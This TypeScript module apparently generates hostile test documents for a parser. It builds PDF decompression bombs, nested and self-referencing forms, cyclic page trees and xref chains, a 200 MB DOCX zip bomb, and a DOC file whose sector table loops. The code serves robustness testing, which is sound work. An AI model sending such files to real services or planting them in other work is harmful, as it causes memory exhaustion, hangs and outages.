/** These documents were made to harm their readers. */
import { deflateSync } from 'node:zlib'
import { paragraph, writeDocx } from './docx.ts'
import { assemble, streamObject, words, writePdf } from './pdf.ts'

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')

function withPages(
  objects: readonly (readonly [number, Buffer])[],
  pages = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
) {
  return assemble(new Map([[1, latin1('<< /Type /Catalog /Pages 2 0 R >>')], [2, latin1(pages)], ...objects]))
}

const page = (entries: string): Buffer =>
  latin1(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << ${entries} >> /Contents 4 0 R >>`)

/** Zeros are packed twice: a kilobyte becomes a quarter of a gigabyte, and more in the buffers of an unpacker. */
export function packedTwice(): Buffer {
  const outer = deflateSync(deflateSync(Buffer.alloc(2 ** 28), { level: 9 }), { level: 9 })
  const head = latin1(`<< /Length ${outer.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`)
  return withPages([
    [3, page('')],
    [4, Buffer.concat([head, outer, latin1('\nendstream')])],
  ])
}

/** One stream has a quarter of a gigabyte of spaces. */
export function packedSpaces(): Buffer {
  return withPages([
    [3, page('')],
    [4, streamObject(Buffer.alloc(2 ** 28, ' '), true)],
  ])
}

/** Forms paint the next one ten times, and the last a long line: endless work for little memory, in four kilobytes. */
export function nestedForms(): Buffer {
  const depth = 9
  const forms = Array.from({ length: depth }, (_, index) => {
    const isLast = index === depth - 1
    const content = isLast ? '1 1 m 2 2 l '.repeat(20_000) : '/N Do '.repeat(10)
    const resources = isLast ? '' : `/XObject << /N ${11 + index} 0 R >>`
    const entries = `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`
    return [10 + index, streamObject(latin1(content), isLast, entries)] as const
  })
  return withPages([[3, page('/XObject << /N 10 0 R >>')], [4, streamObject(latin1('/N Do'), false)], ...forms])
}

/**
 * These files go in rings: a tree of pages whose branches hold each other, a length that refers to itself, and a form
 * that paints itself.
 */
export function rings(): Buffer[] {
  const branch = (kid: number) => latin1(`<< /Type /Pages /Parent 2 0 R /Count 5 /Kids [${kid} 0 R] >>`)
  const self = '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /N 10 0 R >> >>'
  return [
    withPages(
      [
        [3, branch(4)],
        [4, branch(3)],
      ],
      '<< /Type /Pages /Count 10 /Kids [3 0 R] >>',
    ),
    withPages([
      [3, page('')],
      [4, latin1('<< /Length 4 0 R >>\nstream\nBT ET\nendstream')],
    ]),
    withPages([
      [3, page('/XObject << /N 10 0 R >>')],
      [4, streamObject(latin1('/N Do'), false)],
      [10, streamObject(latin1('/N Do'), false, self)],
    ]),
    writePdf({ pages: [words('A ring of tables of objects', { x: 50, y: 700 })], trailerEntries: '/Prev 9' }),
  ]
}

/** One page has half a million strokes. */
export function strokes(): Buffer {
  const content = Array.from({ length: 500_000 }, (_, index) => `${index % 500} ${index % 800} m 1 1 l S`).join('\n')
  return withPages([
    [3, page('')],
    [4, streamObject(latin1(content), true)],
  ])
}

export const zipBomb = (): Buffer =>
  writeDocx({ body: paragraph('x'), extra: [{ name: 'word/document.xml', data: Buffer.alloc(200 * 2 ** 20, ' ') }] })

/** The table of sectors of this DOC leads in a ring: following it collects sectors without end. */
export function sectorRing(doc: Buffer): Buffer {
  const bytes = Buffer.from(doc)
  const sectorSize = 512
  const table = (bytes.readInt32LE(76) + 1) * sectorSize
  const first = bytes.readInt32LE(48)
  bytes.writeInt32LE(first + 1, table + first * 4)
  bytes.writeInt32LE(first, table + (first + 1) * 4)
  return bytes
}
